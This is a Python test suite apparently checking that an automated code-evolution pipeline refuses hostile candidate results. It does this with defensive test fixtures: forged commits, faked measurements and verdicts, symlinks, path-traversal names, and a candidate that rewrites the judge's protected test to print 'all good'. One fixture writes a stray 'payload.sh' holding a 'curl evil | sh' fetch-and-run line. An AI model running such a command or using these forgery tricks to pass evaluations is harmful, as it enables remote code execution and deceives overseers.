"""A candidate job's result folder (`freemad.github.matrix_results`) as a hostile job writes it:
forged commits, verdicts and bundles, protected paths changed, stray files, lying proposals. Each
is refused in one line and stored as a failed candidate, never admitted."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

from freemad.github.matrix_results import BUNDLE, RESULT
from tests.evolve.runs import git
from tests.github.matrix_world import (
    Matrix,
    first_generation,
    forge_commit,
    judged,
    measured,
    on,
    read,
    swap_commit,
    write,
)


def test_hostile_results_are_refused_one_line_each_and_never_admitted(
    world: Matrix, tmp_path: Path
) -> None:
    m = world
    honest, out = tmp_path / "honest", tmp_path / "hostile"
    run_id = first_generation(m, honest)
    out.mkdir()
    incumbent = read(honest / "candidate-1-0")["parent"]
    attacker = m.clone()

    # Candidate 0: its result claims another generation.
    zero = out / "candidate-1-0"
    shutil.copytree(honest / "candidate-1-0", zero)
    data = read(zero)
    data["generation"] = 2
    write(zero, data)
    # Candidate 1, the real winner: its bundle's commit is not a child of the incumbent (it sits
    # on main, under the PR's head), though its tree and verdict are consistent.
    one = out / "candidate-1-1"
    shutil.copytree(honest / "candidate-1-1", one)
    main = git(attacker, "rev-parse", "origin/main")
    commit, tree = forge_commit(
        attacker, main, {"calc.py": "COST = 1\n\n\ndef add(a, b):\n    return a + b\n"}
    )
    swap_commit(one, attacker, commit, tree, main)
    # Candidate 2: an oversize result.
    two = out / "candidate-1-2"
    two.mkdir()
    (two / RESULT).write_bytes(b" " * (8 * 2**20 + 1))
    # Candidate 3: a link out of the folder instead of its result.
    three = out / "candidate-1-3"
    three.mkdir()
    (three / RESULT).symlink_to(honest / "candidate-1-3" / RESULT)
    # Names that are no candidate's, a folder that is a link, a file walking out of its folder.
    (out / "candidate-1-0..").mkdir()
    (out / "..candidate-1-1").mkdir()
    (out / "candidate-2-0").symlink_to(honest / "candidate-1-0")

    report = m.admit(run_id, out)

    refused = dict(report.admitted.refused)
    assert set(refused) == {0, 1, 2, 3}
    assert refused[0] == "its generation is 2, not 1"
    assert refused[1].startswith(f"its commit {commit[:12]} is not a child of the incumbent")
    assert refused[2].startswith(f"{RESULT} has {8 * 2**20 + 1} bytes, over the limit")
    assert refused[3] == f"{RESULT} is not a regular file"
    assert all("\n" not in why for why in refused.values())
    assert dict(report.ignored) == {
        "..candidate-1-1": "not a candidate result's name (candidate-<g>-<k>)",
        "candidate-1-0..": "not a candidate result's name (candidate-<g>-<k>)",
        "candidate-2-0": "for generation 2, not 1",
    }
    # Stored as failed candidates: the generation is decided, nothing admitted, the forged
    # commit nowhere on origin; the honest results, brought later, change nothing.
    events = m.events(run_id)
    [_, decided] = judged(events)
    assert decided["candidate"] is None and not decided["verdict"]["admitted"]
    assert [c["outcome"] for c in decided["generation"]["candidates"]] == ["failed"] * 4
    assert "its result was refused" in decided["verdict"]["reason"]
    assert git(m.bare, "for-each-ref", f"refs/tags/evolve/{run_id}/").count("\n") == 0  # v0 only
    assert not on(m.bare, commit)
    late = m.admit(run_id, honest)
    assert late.admitted.stored == () and measured(m.events(run_id)) == {
        (1, k): 1 for k in range(4)
    }
    assert incumbent == m.head


def test_forged_verdicts_protected_paths_bad_bundles_and_stray_files_are_refused(
    world: Matrix, tmp_path: Path
) -> None:
    m = world
    honest, out = tmp_path / "honest", tmp_path / "hostile"
    run_id = first_generation(m, honest)
    shutil.copytree(honest, out)
    incumbent = read(out / "candidate-1-0")["parent"]
    attacker = m.clone()

    # Candidate 0 (measured 45) claims 1 ms and keeps its verdict: not the judge's verdict.
    data = read(out / "candidate-1-0")
    data["measured"]["measurement"]["components"]["runtime_ms"] = 1.0
    write(out / "candidate-1-0", data)
    # Candidate 1, the winner: its commit also rewrites the judge's protected test, its tree
    # and result consistent with that commit.
    one = out / "candidate-1-1"
    commit, tree = forge_commit(
        attacker,
        incumbent,
        {
            "calc.py": "COST = 30\n\n\ndef add(a, b):\n    return a + b\n",
            "tests/check.py": "print('all good')\n",
        },
    )
    swap_commit(one, attacker, commit, tree, incumbent)
    # Candidate 2 (fails its gate) claims to be admitted with the judge's words for another.
    data = read(out / "candidate-1-2")
    data["measured"]["verdict"] = read(honest / "candidate-1-1")["measured"]["verdict"]
    write(out / "candidate-1-2", data)
    # Candidate 3: its bundle is no bundle; and a stray file beside it.
    (out / "candidate-1-3" / BUNDLE).write_bytes(b"not a bundle\n")
    (out / "candidate-1-3" / "payload.sh").write_text("curl evil | sh\n")

    report = m.admit(run_id, out)

    refused = dict(report.admitted.refused)
    assert refused[0].startswith("its verdict is not the judge's on its measurement")
    assert refused[1] == "its commit changes the protected path tests/check.py"
    assert refused[2].startswith("its verdict is not the judge's on its measurement")
    assert refused[3] == "it holds 'payload.sh', neither result.json nor candidate.bundle"
    [_, decided] = judged(m.events(run_id))
    assert decided["candidate"] is None and not decided["verdict"]["admitted"]
    assert not on(m.bare, commit)
    # A bundle that is no bundle, without a stray file beside it: refused for the bundle.
    fresh = first_generation(m, tmp_path / "second")  # a second run, its generation open
    second = tmp_path / "second" / "candidate-1-3"
    (second / BUNDLE).write_bytes(b"not a bundle\n")
    report = m.admit(fresh, tmp_path / "second")
    assert dict(report.admitted.refused) == {3: f"{BUNDLE} is not a bundle of one commit"}
    assert report.admitted.stored == (0, 1, 2)
    assert [v.version for v in report.admitted.state.versions] == [0, 1]  # candidate 1 still wins


def test_a_proposal_that_lies_about_its_cost_or_shape_is_refused_and_strange_keys_dropped(
    world: Matrix, tmp_path: Path
) -> None:
    m = world
    out = tmp_path / "results"
    run_id = first_generation(m, out)
    edits: dict[int, dict[str, Any]] = {
        0: {"cost_usd": -1e9},  # would lower a run's spending against its cost limit
        1: {"agent": {"id": "worker"}},
        3: {"candidate": 2},
    }
    for k, change in edits.items():
        data = read(out / f"candidate-1-{k}")
        data["proposal"].update(change)
        write(out / f"candidate-1-{k}", data)
    data = read(out / "candidate-1-2")
    data["proposal"]["injected"] = "x" * 100
    data["measured"].update(version=99, diff_artifact="someone-elses-artifact")
    write(out / "candidate-1-2", data)

    report = m.admit(run_id, out)

    assert dict(report.admitted.refused) == {
        0: "its proposal's cost_usd is not a number of dollars",
        1: "its proposal's agent is not text",
        3: "its proposal is for another generation or candidate",
    }
    assert report.admitted.stored == (2,)
    events = m.events(run_id)
    [proposed] = [d for k, d in events if k == "candidate_proposed"]
    [stored] = [d for k, d in events if k == "candidate_measured" and d["candidate"] == 2]
    assert proposed["candidate"] == 2 and "injected" not in proposed
    assert "version" not in stored
    assert stored["diff_artifact"] != "someone-elses-artifact"  # the diff it brought, stored here
